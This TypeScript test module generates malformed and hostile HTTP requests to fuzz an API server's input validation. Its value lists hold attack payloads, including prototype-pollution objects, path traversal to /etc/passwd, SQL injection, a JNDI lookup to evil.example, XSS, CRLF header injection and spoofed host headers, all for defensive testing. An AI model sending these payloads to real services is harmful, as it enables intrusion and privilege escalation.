import { gzipSync } from 'node:zlib'
import * as fc from 'fast-check'
import { bodyBytesMax, type HttpRequest } from '#infra/local/server/server.ts'
import type { Endpoint } from '#shared/kernel/endpoint.ts'
import { type Input, parts, pathsOf, valueAt, withAt } from './contract.ts'

const nested = (depth: number): unknown => (depth === 0 ? 1 : [nested(depth - 1)])
const prototype = { ['__proto__']: { role: 'SUPERVISOR', user_id: 'usr_other' } }

const values: readonly unknown[] = [
  undefined,
  null,
  true,
  false,
  0,
  -0,
  -1,
  1.5,
  7,
  1e308,
  2 ** 53,
  -(2 ** 53),
  [],
  {},
  [null],
  [[]],
  prototype,
  { toString: 1, length: -1 },
  { $ne: null },
  nested(8),
  nested(9),
  nested(40),
  '',
  ' ',
  '\t\n',
  'null',
  'undefined',
  'true',
  'NaN',
  'Infinity',
  '-Infinity',
  '-1',
  '+1',
  '1.5',
  '1e3',
  '0x10',
  '00000001',
  '٣',
  '9999999',
  '99999999',
  '9'.repeat(400),
  '\u0000',
  'a\u0000b',
  '\ud800',
  'x\udfffx',
  '\u202eevil',
  '\ufeff',
  '😀'.repeat(20),
  'é'.normalize('NFD'),
  'ﷺ'.repeat(70),
  '\u007f\u001b[31m',
  'line\r\nset-cookie: a=b',
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'current',
  '../../etc/passwd',
  '..%2f..',
  'C:\\boot.ini',
  "' OR 1=1--",
  '${jndi:ldap://evil.example}',
  '<script>alert(1)</script>',
  '{{7*7}}',
  'account#session#x',
  'a#b',
  'x'.repeat(63),
  'x'.repeat(64),
  'x'.repeat(65),
  'x'.repeat(600),
  'x'.repeat(601),
  'x'.repeat(4_097),
  'x'.repeat(20_000),
]

const texts: readonly string[] = [
  '',
  ' ',
  '{',
  '}',
  '[',
  '[]',
  'null',
  'true',
  '7',
  '-',
  '"',
  '"text"',
  '{}{}',
  '{"a":1,}',
  "{'a':1}",
  '{a:1}',
  'NaN',
  '{"a":NaN}',
  '{"a":1e999}',
  '{"a":-1e999}',
  '{"a":00}',
  '{"a":"\\ud800"}',
  '{"a":"\\x"}',
  '{"a":"\u0001"}',
  '\ufeff{}',
  '{"__proto__":{"a":1}}',
  '{"then":1,"toJSON":1}',
  '{"constructor":{"prototype":{"a":1}}}',
  '{"a":1,"a":2}',
  '/* */{}',
  '{}//',
  `{"a":${'['.repeat(9)}${']'.repeat(9)}}`,
  '['.repeat(30_000),
  `${'['.repeat(30_000)}${']'.repeat(30_000)}`,
  `${'{"a":'.repeat(9_000)}1${'}'.repeat(9_000)}`,
  `[${'0,'.repeat(30_000)}0]`,
  `{${Array.from({ length: 4_000 }, (_, path) => `"${path}":0`).join(',')}}`,
  `"${'x'.repeat(60_000)}"`,
  `{"a":${'9'.repeat(60_000)}}`,
  'a=b&c=d',
  '<xml/>',
  '\u0000',
]

const types: readonly string[] = [
  '',
  'text/plain',
  'text/plain;application/json',
  'application/xml',
  'application/json; charset=utf-16',
  'APPLICATION/JSON',
  'application/json;',
  ';',
  'application/jsonp',
  'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=x',
  'application/json, text/plain',
  'application/octet-stream',
  '\u0000',
]

const keys: readonly string[] = [
  '',
  'short',
  'x'.repeat(128),
  'x'.repeat(129),
  'x'.repeat(9_000),
  '../../../../x',
  'ключ-ключ',
  '__proto__',
  'constructor',
  'a b c d e f',
  'one-key-1,one-key-2',
  '\u0000\u0000\u0000\u0000\u0000\u0000\u0000\u0000',
]

/** Includes lone surrogates and control characters. */
const nonsense = fc.string({ unit: fc.nat({ max: 0xffff }).map((code) => String.fromCharCode(code)) })

/** Values that no field accepts; `undefined` stands for a missing field. */
const anything: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 6, arbitrary: fc.constantFrom(...values) },
  { weight: 1, arbitrary: fc.jsonValue() },
  { weight: 1, arbitrary: nonsense },
)

/** Off by one, or wrapped in another type. */
const nearly = fc.constantFrom<((value: unknown) => unknown)[]>(
  (value) => `${plain(value)}x`,
  (value) => `${plain(value)} `,
  (value) => ` ${plain(value)}`,
  (value) => plain(value).slice(0, -1),
  (value) => plain(value).toUpperCase(),
  (value) => plain(value).toLowerCase(),
  (value) => `${plain(value)}\n`,
  (value) => `${plain(value)}${plain(value)}`,
  (value) => `${plain(value)},${plain(value)}`,
  (value) => [value],
  (value) => ({ value }),
  Number,
  JSON.stringify,
)
const plain = (value: unknown) => (typeof value === 'string' ? value : (JSON.stringify(value) ?? ''))

const unexpectedFields = ['__proto__', 'constructor', 'role', 'user_id', 'userId', 'price_per_share']

/** Inputs with one wrong or one unexpected field. */
export function invalidInputsOf(endpoint: Endpoint, inputs: fc.Arbitrary<Input>): fc.Arbitrary<Input> {
  const knownPaths = pathsOf(endpoint).map(([path]) => path)
  const extra = parts
    .filter((part) => endpoint[part] !== undefined || part === 'query')
    .flatMap((part) => unexpectedFields.map((name) => `${part}.${name}`))
  const paths = fc.oneof(
    { weight: 9, arbitrary: fc.constantFrom(...(knownPaths.length === 0 ? extra : knownPaths)) },
    { weight: 1, arbitrary: fc.constantFrom(...extra) },
  )
  const replacements = fc.oneof(
    { weight: 1, arbitrary: nearly },
    { weight: 3, arbitrary: anything.map((value) => () => value) },
  )
  return fc
    .tuple(inputs, paths, replacements)
    .map(([input, path, change]) => withAt(input, path, change(valueAt(input, path))) as Input)
}

/** Mutates an encoded request: its text, type, encoding, size, address or headers. */
export type InputMutation = (request: HttpRequest, endpoint: Endpoint) => HttpRequest

/** JSON and malformed JSON as a body; also used for signed webhooks. */
export const rawTexts: fc.Arbitrary<string> = fc.oneof(
  { weight: 6, arbitrary: fc.constantFrom(...texts) },
  { weight: 1, arbitrary: fc.json() },
  { weight: 1, arbitrary: nonsense },
)

const rightTypes = {
  json: 'application/json',
  form: 'application/x-www-form-urlencoded',
  multipart: 'multipart/form-data; boundary=x',
} as const
const rightType = ({ encoding = 'json' }: Endpoint) => rightTypes[encoding]
const bytesOf = ({ body }: HttpRequest) => Buffer.from(body ?? [])
const withHeaders = (request: HttpRequest, more: Record<string, string>): HttpRequest => ({
  ...request,
  headers: { ...request.headers, ...more },
})

/** The same text in bytes that are not UTF-8, or in bytes that are not text. */
const misencoded = fc.constantFrom<(body: Buffer) => Uint8Array>(
  (body) => Buffer.from(body.toString(), 'utf16le'),
  (body) => Uint8Array.from([0xff, 0xfe, ...Buffer.from(body.toString(), 'utf16le')]),
  (body) => Uint8Array.from([0xef, 0xbb, 0xbf, ...body]),
  (body) => Uint8Array.from([0xc3, 0x28, ...body]),
  (body) => Uint8Array.from([...body.subarray(0, -2), 0xff, ...body.subarray(-2)]),
  (body) => Buffer.concat([body, Uint8Array.from([0])]),
  (body) => Buffer.from(body.toString('base64')),
  gzipSync,
)

const limits = [64 * 1024, 64 * 1024 + 1, 300_000]
/** Rarely, because ten megabytes are slow. */
const sizes = fc.oneof(
  { weight: 30, arbitrary: fc.constantFrom(...limits) },
  { weight: 1, arbitrary: fc.constantFrom(bodyBytesMax + 1, undefined) },
)

const queries = (name: string) => [
  `${name}=again`,
  `${name}=`,
  name,
  `${name}[]=1`,
  `${name}[a]=1`,
  `${name}.a=1`,
  '&&',
  '=',
  '=x',
  '__proto__=1',
  'constructor=1',
  `a=${'x'.repeat(8_000)}`,
  Array(500).fill('a=1').join('&'),
]
const targets = fc.constantFrom<(target: string) => string>(
  ...['%', '%zz', '%c3%28', '%ff', '%00', '/', '//', '/..', '?', '#x'].map(
    (end) => (target: string) => `${target}${end}`,
  ),
  (target) => target.replace('/api/', '/api//'),
  (target) => target.replace('/api/', '/api/%2e%2e/'),
  (target) => `/api${target.slice(4).toUpperCase()}`,
)

const sometimes = <T>(arbitrary: fc.Arbitrary<T>) => fc.option(arbitrary, { nil: undefined, freq: 2 })
const headers = fc
  .tuple(
    sometimes(fc.constantFrom(...keys).map((key) => ({ 'idempotency-key': key }))),
    sometimes(
      fc
        .constantFrom(...keys, 'line\r\n{"level":"error"}', 'thread-of-mine')
        .map((key) => ({ 'x-correlation-id': key })),
    ),
    sometimes(
      fc.constant({ 'x-client-address': '10.0.0.1', 'x-forwarded-for': '127.0.0.1', 'x-origin-proof': 'guess' }),
    ),
    sometimes(
      fc.constant({
        host: 'evil.example',
        origin: 'https://evil.example',
        'x-forwarded-host': 'evil.example',
        'x-http-method-override': 'DELETE',
      }),
    ),
    sometimes(
      fc.constant({
        cookie: '; ;=;token=x; __proto__=1',
        'if-none-match': '*',
        accept: 'application/xml',
        'content-encoding': 'gzip',
        'accept-language': 'x'.repeat(5_000),
      }),
    ),
    sometimes(fc.constant({ ['__proto__']: 'x', constructor: 'x', 'content-length': '-1' })),
  )
  .map((some): Record<string, string> => Object.assign({}, ...some))

export const inputMutations: fc.Arbitrary<InputMutation> = fc.oneof(
  rawTexts.map(
    (text): InputMutation =>
      (request, endpoint) =>
        withHeaders({ ...request, body: Buffer.from(text) }, { 'content-type': rightType(endpoint) }),
  ),
  fc.constantFrom(...types).map(
    (type): InputMutation =>
      (request) =>
        withHeaders(request, { 'content-type': type }),
  ),
  misencoded.map((encode): InputMutation => (request) => ({ ...request, body: encode(bytesOf(request)) })),
  sizes.map((size): InputMutation => (request) => ({
    ...request,
    body:
      size === undefined
        ? undefined
        : Buffer.concat([bytesOf(request), Buffer.alloc(Math.max(0, size - bytesOf(request).length), ' ')]),
  })),
  fc.nat({ max: queries('').length - 1 }).map((which): InputMutation => (request) => {
    const name = /[?&]([^=&]+)=/.exec(request.target)?.[1] ?? 'query'
    return { ...request, target: `${request.target}${request.target.includes('?') ? '&' : '?'}${queries(name)[which]}` }
  }),
  targets.map((change): InputMutation => (request) => ({ ...request, target: change(request.target) })),
  fc
    .constantFrom('GET', 'POST', 'PUT', 'DELETE', 'PATCH', 'HEAD', 'OPTIONS', 'TRACE', 'x', '__proto__')
    .map((method): InputMutation => (request) => ({ ...request, method })),
  headers.map(
    (more): InputMutation =>
      (request) =>
        withHeaders(request, more),
  ),
)
